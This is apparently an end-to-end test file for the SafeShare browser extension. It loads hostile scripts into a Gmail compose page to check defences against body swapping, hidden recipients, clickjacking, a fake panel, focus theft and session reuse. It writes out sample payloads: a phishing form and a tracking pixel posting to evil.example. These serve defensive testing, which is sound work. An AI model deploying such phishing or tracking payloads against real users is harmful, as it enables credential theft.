"""The share panel against a hostile webmail page (issue 20), in headless Chromium with the extension loaded and
a real `safeshare serve`: each attack script (extension/test/fixtures/hostile/) runs in the Gmail compose page's
own world, before its scripts, and each attack is caught or made impossible.

1 body swapped at the click · 2 hidden recipients and an overlay · 3 clickjacking (opacity 0) and the dwell time
· 4 stopped click + fake panel, and the phrase only the real panel shows · 5 focus theft while typing · 6 scripted
click · 7 the panel's session: nothing in its address, a reframed panel (another site) shows nothing, a leaked
session id is refused · 8 received files are downloads only · the keyring and the phrase out of storage.local."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import example
from tests.e2e.conftest import Browser, Gateway, wait_until
from tests.e2e.panel import fill, open_panel, panel_frame, settle
from tests.e2e.test_webmail_share import decrypted, result_facts
from tests.e2e.webmail import Webmail
from tests.test_cli import call

HOSTILE = Path(__file__).resolve().parents[2] / "extension" / "test" / "fixtures" / "hostile"
GMAIL_BODY = '[aria-label="Message Body"]'
REAL_TEXT = "bruising seen at 09:10 — école"


def hostile(page: Any, *scripts: str) -> None:
    for s in scripts:
        page.add_init_script(path=str(HOSTILE / s))


def share_button(panel: Any) -> Any:
    return panel.get_by_role("button", name="Share", exact=True)


def ready_to_share(panel: Any) -> None:
    fill(panel, example("share"))
    settle(panel)
    assert panel.get_by_role("status").text_content() == "Ready to share."


def drafts_in_worker(browser: Browser) -> list[str]:
    return browser.worker.evaluate(
        "() => chrome.storage.session.get(null).then(all => Object.keys(all).filter(k => k.startsWith('draft:')))"
    )


def can_fetch(gateway: Gateway, share_id: str, rid: str) -> bool:
    status, _ = call(f"{gateway.url}/api/v1/shares/{share_id}/envelope", gateway.tokens[rid])
    return status == 200


# -- 1. the body swapped at the click ----------------------------------------------------------------------------


def test_body_swapped_for_the_click_is_seen_and_not_shared(page: Any, webmail: Webmail, gateway: Gateway) -> None:
    hostile(page, "swap-body.js")
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    assert page.evaluate("window.__swapped") == 1
    # The two reads differed: the panel says so, and shows (and will share) the settled body, in full.
    unsteady = panel.locator("#unsteady")
    assert unsteady.is_visible() and "the body changed while SafeShare was reading it" in unsteady.text_content()
    body = panel.locator("#email-body").text_content()
    assert REAL_TEXT in body and "SWAPPED" not in body
    # The formatted version, as the recipients will see it (sandboxed, sanitised), is the real one too.
    seen = panel.frame_locator("#email-html").locator("body").inner_text()
    assert REAL_TEXT in seen and "SWAPPED" not in seen
    ready_to_share(panel)
    share_button(panel).click()
    share_id = result_facts(panel)["Share reference"]
    text = decrypted(gateway, share_id, "alice").get_body(("plain",)).get_content()
    assert REAL_TEXT in text and "SWAPPED" not in text


def test_body_swapped_for_longer_is_shown_then_the_change_pointed_out(
    page: Any, webmail: Webmail, gateway: Gateway
) -> None:
    hostile(page, "swap-body.js")
    page.add_init_script("window.__restoreAfter = 2500")
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    # The page held the swap past the second read: the panel shows the swapped body — what would be shared.
    assert "SWAPPED BODY" in panel.locator("#email-body").text_content()
    ready_to_share(panel)
    # Then the page put the real text back: the panel points out the change and Share waits for a choice.
    changed = panel.locator("#changed")
    changed.wait_for(state="visible", timeout=10000)
    assert "the body" in changed.text_content()
    assert share_button(panel).is_disabled()
    panel.get_by_role("button", name="Read the email again").click()
    shows_real = f"() => document.querySelector('#email-body').textContent.includes({json.dumps(REAL_TEXT)})"
    panel.wait_for_function(shows_real)
    assert changed.is_hidden()
    settle(panel)
    share_button(panel).click()
    share_id = result_facts(panel)["Share reference"]
    text = decrypted(gateway, share_id, "alice").get_body(("plain",)).get_content()
    assert REAL_TEXT in text and "SWAPPED" not in text


def test_edit_after_opening_is_pointed_out_and_the_snapshot_shared(
    page: Any, browser: Browser, webmail: Webmail, gateway: Gateway
) -> None:
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    shown = panel.locator("#email-body").text_content()
    assert REAL_TEXT in shown
    # Sizes and SHA-256 identities of the attachments, from the very bytes that will be shared.
    items = panel.locator("#email-attachments li")
    assert items.count() == 2
    for i in range(2):
        digest = items.nth(i).get_attribute("data-sha256")
        name = items.nth(i).locator(".name").text_content()
        served = next(a for a in webmail.attachments.values() if a.name == name)
        assert digest == hashlib.sha256(served.data).hexdigest()
        assert f"{len(served.data):,} bytes" in items.nth(i).text_content()
        assert " ".join(digest[j : j + 4] for j in range(0, 16, 4)) in items.nth(i).text_content()
    ready_to_share(panel)
    page.evaluate(
        "b => document.querySelector(b).insertAdjacentHTML('beforeend', '<div>ADDED LATER</div>')", GMAIL_BODY
    )
    panel.locator("#changed").wait_for(state="visible", timeout=10000)
    assert share_button(panel).is_disabled()
    # A Share sent anyway (a stale click) is refused by the worker while the change is unanswered.
    [key] = drafts_in_worker(browser)
    refused = panel.evaluate(
        "s => chrome.runtime.sendMessage({type: 'share', session: s, recipients: ['alice'], justification: {}})",
        key.removeprefix("draft:"),
    )
    assert refused["ok"] is False and refused["error"]["code"] == "draft_changed"
    panel.get_by_role("button", name="Share what is shown").click()
    settle(panel)
    share_button(panel).click()
    share_id = result_facts(panel)["Share reference"]
    text = decrypted(gateway, share_id, "alice").get_body(("plain",)).get_content()
    assert REAL_TEXT in text and "ADDED LATER" not in text


def test_text_hidden_by_page_css_is_shown_as_the_recipients_will_see_it(page: Any, webmail: Webmail) -> None:
    """Text the page's own style sheet hides in the editor is not in the compose window's visible text, but it is
    in the formatted email the recipients get (without that style sheet): the panel shows the formatted email as
    they will see it, so the extra text is in plain view before Share."""
    page.goto(webmail.gmail_url())
    page.evaluate(
        """b => { document.head.insertAdjacentHTML('beforeend', '<style>.zz{display:none}</style>');
                  document.querySelector(b).insertAdjacentHTML('beforeend', '<div class="zz">HIDDEN EXTRA</div>'); }""",
        GMAIL_BODY,
    )
    assert "HIDDEN EXTRA" not in page.locator(GMAIL_BODY).inner_text()
    panel = open_panel(page)
    assert "HIDDEN EXTRA" in panel.frame_locator("#email-html").locator("body").inner_text()


# -- 2. hidden recipients and an overlay -------------------------------------------------------------------------


def test_hidden_recipients_are_not_shared_with_and_an_overlay_blocks_input(
    page: Any, webmail: Webmail, gateway: Gateway
) -> None:
    hostile(page, "hidden-recipients.js")
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    listed = panel.locator("#recipient-list").text_content()
    assert "alice@example.org" in listed and "bob@" not in listed and "carol@" not in listed
    assert panel.locator("#recipient-summary").text_content() == "1 recipient in 1 organisation: Hereford MASH"
    share_to = panel.locator("#share-to")
    assert "Alice Example (Hereford MASH) <alice@example.org>" in share_to.text_content()
    # The summary beside Share is on screen without scrolling.
    assert panel.evaluate(
        "() => { const r = document.querySelector('#share-to').getBoundingClientRect(); "
        "return r.top >= 0 && r.bottom <= innerHeight; }"
    )
    ready_to_share(panel)
    # An overlay over the panel (pointer-events: none, so clicks would pass through): the panel takes no input.
    page.evaluate("window.__overlay()")
    panel.locator("#hidden-notice").wait_for(state="visible", timeout=5000)
    assert share_button(panel).is_disabled()
    assert panel.evaluate("() => document.querySelector('#main').inert")
    page.evaluate("document.getElementById('overlay').remove()")
    panel.locator("#hidden-notice").wait_for(state="hidden", timeout=5000)
    settle(panel)
    share_button(panel).click()
    share_id = result_facts(panel)["Share reference"]
    assert decrypted(gateway, share_id, "alice")["To"] == "alice@example.org"
    assert not can_fetch(gateway, share_id, "bob") and not can_fetch(gateway, share_id, "carol")


# -- 3. clickjacking -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "style", ["opacity: 0", "opacity: 0.3", "transform: rotate(0.5deg)", "filter: blur(0.5px)", "right: -300px"]
)
def test_transparent_or_moved_panel_takes_no_click(page: Any, webmail: Webmail, gateway: Gateway, style: str) -> None:
    hostile(page, "clickjack.js")
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    ready_to_share(panel)
    before = gateway.get("/api/v1/ledger")["entries"]
    page.evaluate("s => window.__clickjack(s)", style)
    panel.wait_for_function("() => document.querySelector('#share').disabled", timeout=5000)
    # A real mouse click where Share is (the decoy's place): nothing happens.
    box = page.locator("iframe.safeshare-panel-frame").bounding_box()
    inner = panel.locator("#share").bounding_box()
    assert box and inner
    page.mouse.click(inner["x"] + inner["width"] / 2, inner["y"] + inner["height"] / 2)
    page.wait_for_timeout(500)
    assert panel.locator("#result").is_hidden()
    assert gateway.get("/api/v1/ledger")["entries"] == before
    # Fully visible again: Share still waits a moment (the dwell time) before it takes a click.
    page.evaluate("() => document.querySelector('iframe.safeshare-panel-frame').removeAttribute('style')")
    panel.wait_for_function("() => document.querySelector('#hidden-notice').hidden", timeout=5000)
    assert share_button(panel).is_disabled()
    panel.wait_for_function("() => !document.querySelector('#share').disabled", timeout=5000)


# -- 4. a look-alike panel, and the phrase only the real one knows ---------------------------------------------


def set_phrase(browser: Browser, phrase: str) -> None:
    options = browser.context.new_page()
    try:
        options.goto(f"chrome-extension://{browser.extension_id}/options/options.html")
        options.get_by_label("A phrase only you know").fill(phrase)
        options.get_by_role("button", name="Save phrase").click()
        options.wait_for_function("() => document.querySelector('#phrase-saved').textContent !== ''")
    finally:
        options.close()


def test_fake_panel_cannot_show_the_phrase(page: Any, browser: Browser, webmail: Webmail) -> None:
    phrase = "blue heron over the weir 4417"
    set_phrase(browser, phrase)
    # The real panel shows it at its top.
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    # Shown once the panel has asked the worker for it (hidden until then): read it only then.
    panel.locator("#phrase").wait_for(state="visible")
    assert panel.locator("#phrase").text_content() == f"Your SafeShare phrase: {phrase}"
    # The page cannot read it: not in its DOM, the frame is out of its reach, not in storage.local.
    assert phrase not in page.content()
    reach = "() => { try { return document.querySelector('iframe').contentDocument; } catch { return 'denied'; } }"
    assert page.evaluate(reach) is None
    local = browser.worker.evaluate("() => chrome.storage.local.get(null)")
    assert phrase not in json.dumps(local)
    # A page that stops the click and draws its own panel: no SafeShare frame, and the fake has no phrase.
    tab = browser.context.new_page()
    try:
        hostile(tab, "fake-panel.js")
        tab.goto(webmail.gmail_url())
        tab.get_by_role("button", name="Share securely", exact=True).click()
        tab.locator("#fake-panel").wait_for()
        tab.wait_for_timeout(800)
        assert tab.locator("iframe.safeshare-panel-frame").count() == 0
        assert phrase not in tab.content()
    finally:
        tab.close()
    set_phrase(browser, "")


# -- 5. focus theft while typing --------------------------------------------------------------------------------


def test_focus_theft_while_typing_is_said(page: Any, webmail: Webmail) -> None:
    hostile(page, "focus-thief.js")
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    field = panel.get_by_label("Describe the purpose in a sentence or two.")
    field.click()
    # Typing, as a practitioner does, with the keyboard (keys go wherever the focus is, as in real life).
    for word in "disclosed injury at home, MASH referral s47".split(" "):
        page.keyboard.type(word + " ", delay=60)
        page.wait_for_timeout(150)
    warning = panel.locator("#focus-lost")
    warning.wait_for(state="visible", timeout=5000)
    assert "The keyboard left SafeShare while you were typing" in warning.text_content()
    assert page.evaluate("window.__stolen()") != ""  # the page did get keys: the practitioner is told


# -- 6. opened by script -----------------------------------------------------------------------------------------


def test_scripted_click_opens_nothing(page: Any, browser: Browser, webmail: Webmail) -> None:
    page.goto(webmail.gmail_url())
    button = page.get_by_role("button", name="Share securely", exact=True)
    button.wait_for()
    before = drafts_in_worker(browser)
    fetched = len(webmail.fetched)
    b = "document.querySelector('.safeshare-button')"
    page.evaluate(f"{b}.click()")
    page.evaluate(f"{b}.dispatchEvent(new MouseEvent('click', {{bubbles: true}}))")
    page.evaluate(f"{b}.dispatchEvent(new KeyboardEvent('keydown', {{key: 'Enter', bubbles: true}}))")
    page.wait_for_timeout(1500)
    assert page.locator("iframe.safeshare-panel-frame").count() == 0
    assert drafts_in_worker(browser) == before
    assert len(webmail.fetched) == fetched  # no attachment was even read
    # The practitioner's own click still works.
    button.click()
    panel_frame(page)


# -- 7. the panel's session --------------------------------------------------------------------------------------


def test_session_is_bound_to_its_frame(page: Any, browser: Browser, webmail: Webmail) -> None:
    hostile(page, "clickjack.js")
    page.goto(webmail.gmail_url())
    panel = open_panel(page)
    src = page.locator("iframe.safeshare-panel-frame").get_attribute("src")
    assert src == f"chrome-extension://{browser.extension_id}/panel/panel.html"  # nothing to reuse
    [key] = drafts_in_worker(browser)
    leaked = key.removeprefix("draft:")
    # A copy of the panel framed by the page itself gets nothing (it has no ticket).
    page.evaluate("u => { const f = document.createElement('iframe'); f.src = u; document.body.append(f); }", src)
    for _ in range(100):  # page.wait_for_timeout lets Playwright see the new frame (time.sleep would not)
        if len([f for f in page.frames if f.url == src]) == 2:
            break
        page.wait_for_timeout(100)
    copy = next(f for f in page.frames if f.url == src and f != panel)
    copy.wait_for_selector("#main[aria-busy=false]", timeout=15000)
    assert "no email to show" in copy.locator("#alert").text_content()
    assert copy.locator("#email").is_hidden() and copy.locator("#recipients").is_hidden()
    # Even with the session id (leaked somehow), another frame is refused.
    answer = copy.evaluate(f"() => chrome.runtime.sendMessage({{type: 'draft', session: {json.dumps(leaked)}}})")
    assert answer["ok"] is False and answer["error"]["code"] == "session_elsewhere"

    # Another site framing the panel's address: nothing shown, and the leaked id refused there too.
    evil = browser.context.new_page()
    try:
        html = f'<!doctype html><title>x</title><iframe src="{src}"></iframe>'
        evil.route("https://evil.example/**", lambda r: r.fulfill(status=200, content_type="text/html", body=html))
        evil.goto("https://evil.example/")
        framed = panel_frame(evil, timeout=15)
        assert "no email to show" in framed.locator("#alert").text_content()
        answer = framed.evaluate(f"() => chrome.runtime.sendMessage({{type: 'draft', session: {json.dumps(leaked)}}})")
        assert answer["ok"] is False and answer["error"]["code"] == "session_elsewhere"
    finally:
        evil.close()
    # The real panel is unaffected.
    assert "alice@example.org" in panel.locator("#recipient-list").text_content()


# -- 8. received files are downloads only ------------------------------------------------------------------------


HOSTILE_FILES = {
    "tracker.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/pixel.png"/></svg>',
    "refresh.html": b'<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "phish.html": b'<form action="https://evil.example/"><h1>SafeShare passphrase</h1><input name=p></form>',
}


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_received_file_opened_in_a_tab_is_downloaded_not_rendered(browser: Browser, name: str) -> None:
    """The inbox's attachment links come from lib/download.js; here that helper is used in the inbox page itself
    (the extension's origin) with hostile files, and the link is opened as a practitioner might."""
    data = HOSTILE_FILES[name]
    browser.context.route("https://evil.example/**", lambda r: r.abort())
    inbox = browser.context.new_page()
    try:
        inbox.goto(f"chrome-extension://{browser.extension_id}/recipient/inbox.html")
        made = inbox.evaluate(
            """async ([name, text, type]) => {
                const { downloadLink } = await import('../lib/download.js');
                const { link } = downloadLink(document, name, new TextEncoder().encode(text));
                link.id = 'file';
                document.body.append(link);
                // The old way, for comparison: a blob of the sender's type.
                const old = URL.createObjectURL(new Blob([text], { type }));
                return { href: link.href, download: link.download, old,
                         type: (await (await fetch(link.href)).blob()).type };
            }""",
            [name, data.decode(), "image/svg+xml" if name.endswith(".svg") else "text/html"],
        )
        assert made["download"] == name and made["type"] == "application/octet-stream"
        # A click saves it under its own name, byte for byte.
        with inbox.expect_download() as info:
            inbox.click("#file")
        assert info.value.suggested_filename == name
        assert Path(info.value.path()).read_bytes() == data
        # Opened in a tab ("Open link in new tab"): the tab's navigation becomes a download, and Chromium closes
        # the tab again; nothing is rendered in the extension's origin.
        with inbox.expect_popup() as popup:
            inbox.evaluate("h => { window.open(h); }", made["href"])
        popup.value.wait_for_event("close", timeout=10000)
        # The sender's type (what the extension did before) is rendered there instead: the test can tell.
        with inbox.expect_popup() as popup:
            inbox.evaluate("h => { window.open(h); }", made["old"])
        shown = popup.value
        shown.wait_for_timeout(1000)
        # Rendered: the tab stays (on the blob, or already sent on by the file's <meta refresh>, to the aborted
        # evil.example request's error page).
        assert not shown.is_closed() and shown.url != "about:blank"
        shown.close()
    finally:
        inbox.close()
        browser.context.unroute("https://evil.example/**")


# -- the keyring out of reach of content scripts -----------------------------------------------------------------


def test_keyring_moves_out_of_storage_local(browser: Browser) -> None:
    legacy = {"armored": "-----BEGIN AGE ENCRYPTED FILE-----\nx\n", "keys": [{"recipient": "age1x", "created": None}]}
    browser.worker.evaluate("k => chrome.storage.local.set({keyring: k})", legacy)
    keys = browser.context.new_page()
    try:
        keys.goto(f"chrome-extension://{browser.extension_id}/recipient/keys.html")
        keys.wait_for_selector("#main[aria-busy=false]")
        in_local = "() => chrome.storage.local.get('keyring').then(r => r.keyring ?? null)"
        wait_until(
            lambda: browser.worker.evaluate(in_local) is None,
            what="the keyring to leave storage.local",
        )
        stored = browser.worker.evaluate(
            """() => new Promise((ok, no) => { const r = indexedDB.open('safeshare-private', 1);
                r.onsuccess = () => {
                  const g = r.result.transaction('kv').objectStore('kv').get('keyring');
                  g.onsuccess = () => { ok(g.result ?? null); r.result.close(); }; g.onerror = no; };
                r.onerror = no; })"""
        )
        assert stored == legacy
    finally:
        keys.close()
        browser.worker.evaluate(
            """() => new Promise(ok => { const r = indexedDB.open('safeshare-private', 1);
                r.onsuccess = () => {
                  const t = r.result.transaction('kv', 'readwrite'); t.objectStore('kv').delete('keyring');
                  t.oncomplete = () => { r.result.close(); ok(); }; }; })"""
        )


def test_content_scripts_reach_no_storage(page: Any, browser: Browser, webmail: Webmail) -> None:
    """From SafeShare's own content-script world in the Gmail page (the closest a page bug could get):
    storage.session (token, drafts) and storage.local (settings) are both closed; the keyring and the phrase
    are in IndexedDB of the extension's origin, which a content script (web page origin) cannot open."""
    browser.worker.evaluate("() => chrome.storage.local.set({probe: 'visible?'})")
    cdp = browser.context.new_cdp_session(page)
    worlds: list[dict[str, Any]] = []
    cdp.on("Runtime.executionContextCreated", lambda e: worlds.append(e["context"]))
    cdp.send("Runtime.enable")
    page.goto(webmail.gmail_url())
    page.get_by_role("button", name="Share securely", exact=True).wait_for()
    ours = [w for w in worlds if w.get("name") == "SafeShare" and w.get("auxData", {}).get("type") == "isolated"]
    assert ours, worlds
    probe = """(async () => {
        const out = {};
        for (const area of ['local', 'session']) {
            try { out[area] = JSON.stringify(await chrome.storage[area].get(null)); }
            catch (e) { out[area] = 'refused: ' + e.message; }
        }
        return out;
    })()"""
    params = {"expression": probe, "contextId": ours[-1]["id"], "awaitPromise": True, "returnByValue": True}
    answer = cdp.send("Runtime.evaluate", params)
    seen = answer["result"]["value"]
    assert seen["local"].startswith("refused") and seen["session"].startswith("refused"), seen
    browser.worker.evaluate("() => chrome.storage.local.remove('probe')")
